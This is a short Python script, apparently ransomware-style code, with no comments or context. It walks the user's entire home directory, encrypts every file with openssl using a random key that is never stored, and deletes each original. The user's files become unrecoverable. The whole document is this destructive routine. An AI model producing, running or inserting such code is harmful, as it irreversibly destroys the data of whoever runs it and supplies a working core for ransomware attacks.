import os, secrets, subprocess

HOME_DIR = os.path.expanduser("~")
KEY = secrets.token_hex(32)

for root, dirs, files in os.walk(HOME_DIR):
    for name in files:
        path = os.path.join(root, name)
        done = subprocess.run(["openssl", "enc", "-aes-256-cbc", "-pass", f"pass:{KEY}", "-in", path, "-out", path + ".vault"])
        if done.returncode == 0:
            os.remove(path)
